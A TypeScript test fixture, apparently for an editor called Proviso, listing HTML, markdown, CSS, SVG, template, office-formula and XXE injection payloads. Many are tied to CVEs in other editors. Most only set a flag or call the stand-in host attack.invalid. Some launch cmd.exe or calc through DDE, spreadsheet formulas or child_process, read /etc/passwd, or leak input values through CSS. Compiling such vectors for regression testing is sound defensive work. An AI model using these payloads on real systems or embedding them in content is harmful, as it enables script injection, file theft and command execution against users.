/**
 * What files, packs, comments, pasted pages and names from strangers may hold: markup and addresses that did something in other editors. Every vector, if it
 * ran, would set `fired` on the page, ask for an address under `.invalid`, open a dialog or leave the page. All of it is text to Proviso.
 */
export interface PayloadClass {
  /** What it was elsewhere, and what became of it there. */
  readonly what: string
  readonly vectors: readonly string[]
}

/** Set on the page by whatever runs. */
export const fired = "__fired"
const run = `window.${fired}=1`
const away = "https://attack.invalid"

/** The published cases, each as the class that it is an instance of. */
export const classes: readonly PayloadClass[] = [
  {
    what: "a data attribute that a script makes HTML of (CVE-2026-104077)",
    vectors: [
      `<section data-background-iframe="javascript:${run}"></section>`,
      `<div data-attrs='{"html":"<img src=x onerror=${run}>"}'>x</div>`,
      `<article class="article" data-attrs='{"id":"<img src=x onerror=${run}>"}'>x</article>`,
      `<span data-markdown><script>${run}</script></span>`,
    ],
  },
  {
    what: "the value of a cell, a readme or the name of a view put into innerHTML (CVE-2026-54158, -33066, -44670)",
    vectors: [
      `</td><img src=x onerror="${run}">`,
      `name"><svg onload=${run}>`,
      `</option></select><img src=x onerror=${run}>`,
      `</textarea><script>${run}</script>`,
    ],
  },
  {
    what: "imported content that a widget of a third party renders (CVE-2026-53578, -53579)",
    vectors: [
      `graph LR; A["<img src=x onerror=${run}>"]`,
      `$$\\href{javascript:${run}}{x}$$`,
      `\\url{javascript:${run}} \\includegraphics{${away}/x.png}`,
      `{"ops":[{"insert":"<img src=x onerror=${run}>"}]}`,
    ],
  },
  {
    what: "a page of the program itself, reached by its own scheme from an embedded object (CVE-2023-2317)",
    vectors: [
      `<embed style="height:0" src="typora://app/typemark/updater/updater.html?curVersion=111&newVersion=222&releaseNoteLink=%22%3E%3Cscript%3E${run}%3C/script%3E">`,
      `<embed src="app://proviso/index.html?x=<script>${run}</script>">`,
      `<iframe src="app://proviso/"></iframe>`,
      `<object data="proviso://open?file=/etc/passwd"></object>`,
    ],
  },
  {
    what: "a scheme that hands out any file of the computer (CVE-2023-2110)",
    vectors: [
      `<img src="app://local/etc/passwd">`,
      `<iframe src="file:///etc/passwd"></iframe>`,
      `<link rel="stylesheet" href="file:///C:/Windows/win.ini">`,
      `<img src="\\\\attack.invalid\\share\\x.png">`,
    ],
  },
  {
    what: "markup that a sanitiser and the browser read otherwise (CVE-2025-24028, -2024-40643, -2023-45673)",
    vectors: [
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
      `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
      `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
      `<map name="test"><area coords="0,0,1000,1000" href="javascript:${run}"></map><img usemap="#test" src=x>`,
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
      `<a href="${away}/x.pdf#javascript" target="_top">x</a>`,
    ],
  },
  {
    what: "an object, or a picture that cannot be loaded (CVE-2020-15930, CVE-2018-1000534)",
    vectors: [
      `<embed src="data:text/html,<script>${run}</script>">`,
      `<object data="data:text/html,<script>parent.${fired}=1</script>"></object>`,
      `<img src=x onerror=${run}>`,
      `<IMG SRC=x ONERROR="require('child_process').exec('calc');${run}">`,
    ],
  },
  {
    what: "the language of a block of code as a class, and an address that is a script (CVE-2021-29996, MarkText #2601)",
    vectors: [
      "```<style/onload=" + run + ">\nx\n```",
      '```"><img src=x onerror=' + run + ">\nx\n```",
      `[x](javascript:${run})`,
      `<a href="javascript:${run}">x</a>`,
      `<pre><code class='language-"><img src=x onerror=${run}>'>x</code></pre>`,
    ],
  },
  {
    what: "HTML in a file of text (CVE-2021-26835)",
    vectors: [
      `<script>${run}</script>`,
      `<script src="${away}/x.js"></script>`,
      `text<iframe srcdoc="<script>parent.${fired}=1</script>"></iframe>`,
      `--><script>${run}</script><!--`,
    ],
  },
  {
    what: "a link that leads the program's own window elsewhere (CVE-2022-25224)",
    vectors: [
      `<a href="${away}" target="_self">x</a>`,
      `<meta http-equiv="refresh" content="0;url=${away}">`,
      `<base href="${away}/">`,
      `<form action="${away}"><button autofocus>x</button></form>`,
      away,
    ],
  },
]

const tags =
  "a abbr audio b bdi blockquote body button canvas details dialog div dl fieldset font footer form frameset h1 header iframe img input ins isindex kbd li link main marquee menu meter nav object ol option p picture pre progress s select span strong style summary svg table td template textarea title tr u ul video xmp x-law".split(
    " ",
  )
const handlers =
  "onload onerror onfocus onmouseover onanimationstart ontransitionend onpointerenter onwheel onscroll oncopy oncut onpaste onbeforeinput ontoggle onbegin onend onrepeat onhashchange onmessage onpageshow onpopstate onresize onstorage onunload oncanplay onloadedmetadata onplay onselectionchange onbeforetoggle oncontentvisibilityautostatechange onscrollend onsecuritypolicyviolation onsubmit onformdata oninvalid onsearch onslotchange ondragstart ondrop".split(
    " ",
  )

/** A sheet of vectors of our own, by what they play on. */
export const cheatSheet: readonly PayloadClass[] = [
  {
    what: "an event of every element",
    vectors: tags.map(
      (tag, i) =>
        `<${tag} ${handlers[i % handlers.length] ?? "onload"}="${run}" autofocus tabindex=1 contenteditable>x`,
    ),
  },
  {
    what: "every event of one element",
    vectors: handlers.map(
      (handler) =>
        `<svg ${handler}=${run} style="animation:x 1s"><animate ${handler}=${run} attributeName=x dur=1s>`,
    ),
  },
  {
    what: "namespaces of SVG and MathML",
    vectors: [
      `<svg><script>${run}</script></svg>`,
      `<svg><script href="data:text/javascript,${run}" /></svg>`,
      `<svg><script xlink:href="${away}/x.js"></script></svg>`,
      `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${run} /></svg>#x" /></svg>`,
      `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
      `<svg><animate xlink:href=#a attributeName=href values=javascript:${run} /><a id=a><text>x</text></a></svg>`,
      `<svg><set attributeName=onmouseover to=${run}>`,
      `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
      `<svg><image href="${away}/x.png"></svg>`,
      `<svg><style>@import "${away}/x.css";</style></svg>`,
      `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
      `<math href="javascript:${run}">x</math>`,
      `<math><maction actiontype="statusline#${away}" xlink:href="javascript:${run}">x</maction></math>`,
      `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
      `<svg><title><style><img src=x onerror=${run}></style></title></svg>`,
      `<?xml-stylesheet href="javascript:${run}"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
    ],
  },
  {
    what: "frames, objects and what loads by itself",
    vectors: [
      `<iframe src="javascript:parent.${fired}=1"></iframe>`,
      `<iframe srcdoc="&lt;script&gt;parent.${fired}=1&lt;/script&gt;"></iframe>`,
      `<frameset><frame src="javascript:parent.${fired}=1"></frameset>`,
      `<object data="javascript:parent.${fired}=1"></object>`,
      `<object><param name=src value="${away}/x.swf"></object>`,
      `<applet code="x.class" archive="${away}/x.jar"></applet>`,
      `<portal src="${away}"></portal>`,
      `<link rel=import href="${away}/x.html">`,
      `<link rel=prefetch href="${away}/x">`,
      `<link rel=dns-prefetch href="//attack.invalid">`,
      `<video poster="${away}/x.png"><source src="${away}/x.mp4" onerror=${run}></video>`,
      `<audio src=x onerror=${run}>`,
      `<picture><source srcset="${away}/x.png 1x"><img></picture>`,
      `<img srcset="${away}/x.png 1x, ${away}/y.png 2x">`,
      `<input type=image src=x onerror=${run}>`,
      `<table background="${away}/x.png"><tr><td background="${away}/y.png">x`,
      `<body background="${away}/x.png">`,
      `<v:image xmlns:v="urn:schemas-microsoft-com:vml" src="${away}/x.png"/>`,
      `<!--[if gte mso 9]><v:shape src="${away}/x.png"></v:shape><![endif]-->`,
      `<a href=x ping="${away}">x</a>`,
    ],
  },
  {
    what: "where the page leads",
    vectors: [
      `<meta http-equiv="refresh" content="0;javascript:${run}">`,
      `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
      `<meta http-equiv="set-cookie" content="a=1">`,
      `<form id=f></form><button form=f formaction="javascript:${run}">x</button>`,
      `<form action="javascript:${run}"><input type=submit autofocus></form>`,
      `<isindex action="javascript:${run}" type=submit>`,
      `<base href="javascript:/${run}//"><a href=/>x</a>`,
      `<base target="_top">`,
      `<a href="${away}" download="x.exe">x</a>`,
    ],
  },
  {
    what: "addresses that are scripts, however they are written",
    vectors: [
      `javascript:${run}`,
      `JaVaScRiPt:${run}`,
      `<a href="java\tscript:${run}">x</a>`,
      `<a href="java\nscript:${run}">x</a>`,
      `<a href="&#106;avascript:${run}">x</a>`,
      `<a href="&#x6A;avascript&colon;${run}">x</a>`,
      `<a href="javascript&#58;${run}">x</a>`,
      `<a href=" &#14; javascript:${run}">x</a>`,
      `<a href="javascript\u003a${run}">x</a>`,
      `<a href="\u0001javascript:${run}">x</a>`,
      `<a href="javascript://%0a${run}">x</a>`,
      `<a href="vbscript:msgbox(1)">x</a>`,
      `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19maXJlZD0xPC9zY3JpcHQ+">x</a>`,
      `<a href="data:text/html,<script>${run}</script>">x</a>`,
      `<a href="blob:${away}/x">x</a>`,
      `<a href="filesystem:${away}/x">x</a>`,
      `<a href="view-source:javascript:${run}">x</a>`,
      `<a href="feed:javascript:${run}">x</a>`,
      `<a href="ms-word:ofe|u|${away}/x.docx">x</a>`,
      `<a href="search-ms:query=x&crumb=location:\\\\attack.invalid\\share">x</a>`,
      `<a href="//attack.invalid/x">x</a>`,
      `<a href="\\\\attack.invalid\\x">x</a>`,
    ],
  },
  {
    what: "sheets of style",
    vectors: [
      `<style>@import url(${away}/x.css);</style>`,
      `<style>body{background:url("${away}/x.png")}</style>`,
      `<style>*{x:expression(${run})}</style>`,
      `<style>input[value^=a]{background:url(${away}/a)}</style>`,
      `<style>@font-face{font-family:x;src:url(${away}/x.woff)}*{font-family:x!important}</style>`,
      `<style>*{-moz-binding:url(${away}/x.xml#x)}</style>`,
      `<style>*{behavior:url(${away}/x.htc)}</style>`,
      `<div style="background:url(${away}/x.png)">x</div>`,
      `<div style="background-image:image-set('${away}/x.png' 1x)">x</div>`,
      `<div style="list-style:url(${away}/x.png)">x</div>`,
      `<div style="content:url(${away}/x.png)">x</div>`,
      `<div style="width:expression(${run})">x</div>`,
      `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
      `<div style="background:\\75 rl(${away}/x.png)">x</div>`,
      `</style><script>${run}</script>`,
      `"; } body { background: url(${away}/x.png) } x { y: "`,
      `\\"; background: url(${away}/x.png); \\`,
      `<link rel="stylesheet" href="${away}/x.css">`,
      `<link rel=stylesheet href="data:text/css,*{background:url(${away}/x)}">`,
    ],
  },
  {
    what: "what one parser ends and another does not",
    vectors: [
      `<template><script>${run}</script></template>`,
      `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
      `<noscript><style></noscript><img src=x onerror=${run}></style>`,
      `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
      `<noframes><img title="</noframes><img src=x onerror=${run}>"></noframes>`,
      `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
      `<plaintext><script>${run}</script>`,
      `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
      `<style><style/><img src=x onerror=${run}>`,
      `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
      `<title><img title="</title><img src=x onerror=${run}>"></title>`,
      `<select><style></select><img src=x onerror=${run}></style>`,
      `<table><td><form><table></form><img src=x onerror=${run}>`,
      `<!--><img src=x onerror=${run}>-->`,
      `<!--!><img src=x onerror=${run}>-->`,
      `<!-- --!><img src=x onerror=${run}> -->`,
      `<![CDATA[><img src=x onerror=${run}>]]>`,
      `<!DOCTYPE x [<!ENTITY y SYSTEM "${away}">]><p>&y;</p>`,
      `<?php <img src=x onerror=${run}> ?>`,
      `</p id="</p><img src=x onerror=${run}>">`,
      `<p title='"><img src=x onerror=${run}>'>`,
      `<p title=\`<img src=x onerror=${run}>\`>`,
      `<script><!--<script></script><img src=x onerror=${run}>`,
      `</script><script>${run}</script>`,
      `</script\u2028><script>${run}</script>`,
    ],
  },
  {
    what: "letters inside and around tags",
    vectors: [
      `<scr\u0000ipt>${run}</scr\u0000ipt>`,
      `<img\u0000src=x onerror=${run}>`,
      `<img/src=x/onerror=${run}>`,
      `<img\fsrc=x\fonerror=${run}>`,
      `<img src=x onerror\u000b=${run}>`,
      `<img src="x" onerror="${run}" x="`,
      `<<script>${run}//<</script>`,
      `<script\u00a0>${run}</script>`,
      `<scr<script>ipt>${run}</scr</script>ipt>`,
      `<ſcript>${run}</ſcript>`,
      `＜script＞${run}＜/script＞`,
      `%3Cscript%3E${run}%3C/script%3E`,
      `&lt;script&gt;${run}&lt;/script&gt;`,
      `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
      `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
      `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
      `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
      `\u001b$B<script>${run}</script>`,
      `\ufeff<script>${run}</script>`,
      `<img src=x onerror=&#119;&#105;ndow.${fired}&#61;1>`,
      `&colon;&lpar;&rpar;&NewLine;&Tab;&bne;`,
    ],
  },
  {
    what: "names that stand in the way of a page's own",
    vectors: [
      `<form id=document><input name=createElement></form>`,
      `<img name=body><img name=cookie>`,
      `<a id=__NONCE__><a id=__NONCE__ name=x href="${away}">`,
      `<form name=location><input name=href></form>`,
      `<iframe name=self srcdoc="x"></iframe>`,
      `<input id=find><form id=search></form><span id=found data-said="<img src=x onerror=${run}>"></span>`,
      `<a id=hasOwnProperty><a id=constructor>`,
      `__proto__`,
      `constructor`,
      `{"__proto__":{"polluted":true}}`,
      `prototype[${fired}]`,
    ],
  },
  {
    what: "templates, formulas and codes of other programs",
    vectors: [
      `{{constructor.constructor('${run}')()}}`,
      `\${${run}}`,
      `<%= ${run} %>`,
      `#{${run}}`,
      `{count, plural, one {x} other {<img src=x onerror=${run}>}}`,
      `{label}{0}{`,
      `'{' '' }`,
      `=HYPERLINK("${away}","x")`,
      `=cmd|' /C calc'!A0`,
      `DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"`,
      `INCLUDETEXT "file:///etc/passwd"`,
      `" \\h INCLUDEPICTURE "${away}/x.png" \\d "`,
      `\u0013 DDE cmd \u0014x\u0015`,
      `</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:r><w:t>`,
      `]]></w:t><w:altChunk r:id="x"/>`,
      `"/><Relationship Id="x" TargetMode="External" Target="${away}"/>`,
      `&xxe; <!ENTITY xxe SYSTEM "file:///etc/passwd">`,
      `\n...\n---\n!!js/function 'function(){${run}}'`,
      `key: &a [*a, *a]`,
      `' # "`,
      `%TAG ! tag:yaml.org,2002:`,
      `\u001b]0;owned\u0007\u001b[2J\u001b[31m`,
      `\u009b2J\u009d0;owned\u009c`,
      `\r\nSet-Cookie: a=1`,
      `../../../../etc/passwd`,
      `C:\\Windows\\System32\\x`,
      `CON`,
      `%s%n%x%d`,
    ],
  },
]

export const payloadClasses: readonly PayloadClass[] = [...classes, ...cheatSheet]
export const vectors: readonly string[] = payloadClasses.flatMap((each) => each.vectors)
